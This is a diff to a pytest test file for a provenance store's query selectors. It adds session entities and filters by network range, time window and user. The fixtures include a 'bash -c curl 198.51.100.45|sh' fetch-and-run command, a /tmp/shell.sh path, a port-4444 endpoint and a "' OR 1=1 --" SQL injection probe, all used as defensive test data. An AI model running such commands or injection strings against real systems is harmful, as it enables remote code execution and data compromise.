@@ -16,13 +16,15 @@ from provenance.store.interface import Selector, Store
 from tests.provenance.store.conftest import MakeStore
 from tests.provenance.store.generated import text
 
-P, F, N = EntityKind.PROCESS, EntityKind.FILE, EntityKind.ENDPOINT
+P, F, N, S = EntityKind.PROCESS, EntityKind.FILE, EntityKind.ENDPOINT, EntityKind.SESSION
 SHELL = "bash -c curl 198.51.100.45|sh"
 ONE, TWO = "sha256:" + "ab" * 32, "sha1:" + "01" * 20
 NODES = [
-    Entity(11, P, "web01", 5, {"pid": 100, "command": SHELL, "argv": SHELL.split(" ", 2)}),
-    Entity(12, P, "web01", 3, {"pid": 101, "command": SHELL, "argv": SHELL.split(" ", 2)}),
-    Entity(13, P, "db01", 3, {"pid": 100, "command": "vi /etc/passwd\udcff"}),
+    Entity(
+        11, P, "web01", 5, {"pid": 100, "command": SHELL, "argv": SHELL.split(" ", 2), "user": "alice", "uid": 1000}
+    ),
+    Entity(12, P, "web01", 3, {"pid": 101, "command": SHELL, "user": "www-data", "uid": 33, "euid": 33, "auid": 1000}),
+    Entity(13, P, "db01", 3, {"pid": 100, "command": "vi /etc/passwd\udcff", "user": "\udcff'", "euid": 0}),
     Entity(14, P, "db01", 9, {"pid": 7}),
     Entity(21, F, "web01", 1, {"path": "/tmp/shell.sh"}),
     Entity(22, F, "db01", 2, {"path": "/tmp/x"}),
@@ -30,6 +32,7 @@ NODES = [
     Entity(31, N, "web01", 4, {"protocol": "tcp", "ip": "198.51.100.45", "port": 4444}),
     Entity(32, N, "web01", 4, {"protocol": "tcp", "ip": "198.51.100.45", "port": 80}),
     Entity(33, N, "db01", 4, {"protocol": "tcp", "ip": "::1", "port": 80}),
+    Entity(41, S, "web01", 4, {"auid": 1000, "ses": 3, "user": "alice"}),
 ]
 NAMES = [
     Name(21, "/tmp/shell.sh", 1, 5),
@@ -56,8 +59,8 @@ def filled(store: Store) -> Store:
 @pytest.mark.parametrize(
     ("selector", "expected"),
     [
-        (Selector(), [21, 22, 23, 12, 13, 31, 32, 33, 11, 14]),
-        (Selector(host="web01"), [21, 12, 31, 32, 11]),
+        (Selector(), [21, 22, 23, 12, 13, 31, 32, 33, 41, 11, 14]),
+        (Selector(host="web01"), [21, 12, 31, 32, 41, 11]),
         (Selector(host="elsewhere"), []),
         (Selector(kinds=frozenset((N, F)), host="db01"), [22, 23, 33]),
         (Selector(kinds=frozenset()), []),
@@ -96,11 +99,57 @@ def filled(store: Store) -> Store:
         (Selector(remote_ip="198.51.100.45", remote_port=80), [32]),
         (Selector(remote_port=80), [32, 33]),
         (Selector(remote_ip="' OR 1=1 --"), []),
+        (Selector(network="198.51.100.0/24"), [31, 32]),
+        (Selector(network="198.51.100.0/24", remote_port=80), [32]),
+        (Selector(network="198.51.100.45/32", host="db01"), []),
+        (Selector(network="0.0.0.0/0"), [31, 32]),
+        (Selector(network="::/0"), [33]),
+        (Selector(network="10.0.0.0/8"), []),
+        (Selector(since=3), [12, 13, 31, 32, 33, 41, 11, 14]),
+        (Selector(until=3), [21, 22, 23, 12, 13]),
+        (Selector(since=3, until=4, host="web01"), [12, 31, 32, 41]),
+        (Selector(since=6, pid=7), [14]),
+        (Selector(until=4, command="curl"), [12]),
+        (Selector(since=2, file="/tmp/*"), [22]),
+        (Selector(since=5, remote_port=80), []),
+        (Selector(since=5, until=4), []),
+        (Selector(user="www-data"), [12]),
+        (Selector(user="33"), [12]),
+        (Selector(user="1000"), [12, 41, 11]),
+        (Selector(user="alice"), [41, 11]),
+        (Selector(user="alice", command="curl"), [11]),
+        (Selector(user="alice", host="db01"), []),
+        (Selector(user="0"), [13]),
+        (Selector(user="\udcff'"), [13]),
+        (Selector(user="tmp"), []),
+        (Selector(user="9" * 30), []),
+        (Selector(user="\uff13\uff13"), []),
     ],
 )
 def test_finds_exactly(filled: Store, selector: Selector, expected: list[int]) -> None:
     assert [node.id for node in filled.find(selector)] == expected
     assert [node.id for node in filled.find(selector, limit=2)] == expected[:2]
+    first = {entity.id: entity.first for entity in NODES}
+    newest = sorted(expected, key=lambda id: (-first[id], id))
+    assert [node.id for node in filled.find(selector, newest=True)] == newest
+    assert [node.id for node in filled.find(selector, limit=2, newest=True)] == newest[:2]
+
+
+@pytest.mark.parametrize(
+    ("kind", "low", "high", "limit", "expected"),
+    [
+        (P, 11, 13, 10, [11, 12, 13]),
+        (P, 11, 13, 2, [11, 12]),
+        (F, -(1 << 63), (1 << 63) - 1, 10, [21, 22, 23]),
+        (N, 0, 32, 10, [31, 32]),
+        (S, 42, 99, 10, []),
+        (P, 13, 11, 10, []),
+    ],
+)
+def test_entities_with_ids_in_a_range(
+    filled: Store, kind: EntityKind, low: int, high: int, limit: int, expected: list[int]
+) -> None:
+    assert [node.id for node in filled.nodes_between(kind, low, high, limit)] == expected
 
 
 def test_returns_complete_nodes(filled: Store) -> None:
